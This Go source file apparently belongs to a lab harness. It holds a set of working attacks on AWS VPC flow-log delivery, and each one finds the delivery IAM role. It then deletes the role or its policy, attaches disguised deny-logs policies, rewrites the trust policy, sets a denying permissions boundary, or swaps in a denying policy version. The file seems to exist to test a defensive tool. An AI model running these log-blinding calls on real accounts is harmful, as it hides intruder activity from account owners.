package lab

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	iamtypes "github.com/aws/aws-sdk-go-v2/service/iam/types"
)

// deliveryPolicy is the inline policy of the role that flow logs deliver with.
const deliveryPolicy = "deliver"

func denyLogs() *string {
	return document(map[string]any{"Effect": "Deny", "Action": "logs:*", "Resource": "*"})
}

func allowLogs() *string {
	return document(map[string]any{"Effect": "Allow", "Action": "logs:PutLogEvents", "Resource": "*"})
}

// deliveryRole returns the name of the role that a flow log delivers with.
func deliveryRole(ctx context.Context, s *Session, t Target) (*string, error) {
	logs, err := describeFlowLogs(ctx, s, "resource-id", t.VPCs)
	if err != nil {
		return nil, err
	}
	for _, fl := range logs {
		if arn := aws.ToString(fl.DeliverLogsPermissionArn); arn != "" {
			return aws.String(arn[strings.LastIndex(arn, "/")+1:]), nil
		}
	}
	return nil, errors.New("no flow log delivers with a role")
}

// onRole makes an attack on the role out of one that knows its name.
func onRole(do func(ctx context.Context, s *Session, role *string) error) doer {
	return func(ctx context.Context, s *Session, t Target) (Aftermath, error) {
		role, err := deliveryRole(ctx, s, t)
		if err != nil {
			return nil, err
		}
		return nil, do(ctx, s, role)
	}
}

// newPolicy makes a managed policy of the intruder's own.
func newPolicy(ctx context.Context, s *Session, document *string) (*string, error) {
	out, err := s.IAM.CreatePolicy(ctx, &iam.CreatePolicyInput{
		PolicyName: aws.String("intruder-" + rand.Text()[:8]), PolicyDocument: document,
	})
	if err != nil {
		return nil, err
	}
	return out.Policy.Arn, nil
}

func deleteInline(ctx context.Context, s *Session, role *string) error {
	_, err := s.IAM.DeleteRolePolicy(ctx, &iam.DeleteRolePolicyInput{RoleName: role, PolicyName: aws.String(deliveryPolicy)})
	return err
}

// deleteRole deletes the role, which takes its policies off first. Where
// relight has put one back meanwhile, it tries again.
var deleteRole = onRole(func(ctx context.Context, s *Session, role *string) error {
	for range 5 {
		var gone *iamtypes.NoSuchEntityException
		if err := deleteInline(ctx, s, role); err != nil && !errors.As(err, &gone) {
			return err
		}
		_, err := s.IAM.DeleteRole(ctx, &iam.DeleteRoleInput{RoleName: role})
		if conflict := new(iamtypes.DeleteConflictException); !errors.As(err, &conflict) {
			return err
		}
	}
	return fmt.Errorf("role %s has policies again and again", *role)
})

func cliDeleteRolePolicy(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	role, err := deliveryRole(ctx, s, t)
	if err != nil {
		return nil, err
	}
	_, err = s.AWS(ctx, "iam", "delete-role-policy", "--role-name", *role, "--policy-name", deliveryPolicy)
	return nil, err
}

var denyInline = onRole(func(ctx context.Context, s *Session, role *string) error {
	_, err := s.IAM.PutRolePolicy(ctx, &iam.PutRolePolicyInput{
		RoleName: role, PolicyName: aws.String("cost-control"), PolicyDocument: denyLogs(),
	})
	return err
})

var attachDenying = onRole(func(ctx context.Context, s *Session, role *string) error {
	arn, err := newPolicy(ctx, s, denyLogs())
	if err != nil {
		return err
	}
	_, err = s.IAM.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: role, PolicyArn: arn})
	return err
})

// detachAll takes a policy off that the role does not need, and the one that
// it does.
var detachAll = onRole(func(ctx context.Context, s *Session, role *string) error {
	arn, err := newPolicy(ctx, s, allowLogs())
	if err != nil {
		return err
	}
	if _, err := s.IAM.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: role, PolicyArn: arn}); err != nil {
		return err
	}
	if _, err := s.IAM.DetachRolePolicy(ctx, &iam.DetachRolePolicyInput{RoleName: role, PolicyArn: arn}); err != nil {
		return err
	}
	return deleteInline(ctx, s, role)
})

func cliTrust(ctx context.Context, s *Session, t Target) (Aftermath, error) {
	role, err := deliveryRole(ctx, s, t)
	if err != nil {
		return nil, err
	}
	trust := document(map[string]any{
		"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": map[string]any{"Service": "ec2.amazonaws.com"},
	})
	_, err = s.AWS(ctx, "iam", "update-assume-role-policy", "--role-name", *role, "--policy-document", *trust)
	return nil, err
}

func bound(ctx context.Context, s *Session, role *string) error {
	arn, err := newPolicy(ctx, s, denyLogs())
	if err != nil {
		return err
	}
	_, err = s.IAM.PutRolePermissionsBoundary(ctx, &iam.PutRolePermissionsBoundaryInput{RoleName: role, PermissionsBoundary: arn})
	return err
}

var boundToNothing = onRole(bound)

// unbound takes the boundary away, which is as it should be, and the policy.
var unbound = onRole(func(ctx context.Context, s *Session, role *string) error {
	if err := bound(ctx, s, role); err != nil {
		return err
	}
	if _, err := s.IAM.DeleteRolePermissionsBoundary(ctx, &iam.DeleteRolePermissionsBoundaryInput{RoleName: role}); err != nil {
		return err
	}
	return deleteInline(ctx, s, role)
})

// versionThatDenies has a harmless policy on the role deny from its second
// version on, which is put in force at once or in a call of its own.
func versionThatDenies(atOnce bool) doer {
	return onRole(func(ctx context.Context, s *Session, role *string) error {
		arn, err := newPolicy(ctx, s, allowLogs())
		if err != nil {
			return err
		}
		if _, err := s.IAM.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: role, PolicyArn: arn}); err != nil {
			return err
		}
		made, err := s.IAM.CreatePolicyVersion(ctx, &iam.CreatePolicyVersionInput{PolicyArn: arn, PolicyDocument: denyLogs(), SetAsDefault: atOnce})
		if err != nil || atOnce {
			return err
		}
		_, err = s.IAM.SetDefaultPolicyVersion(ctx, &iam.SetDefaultPolicyVersionInput{PolicyArn: arn, VersionId: made.PolicyVersion.VersionId})
		return err
	})
}
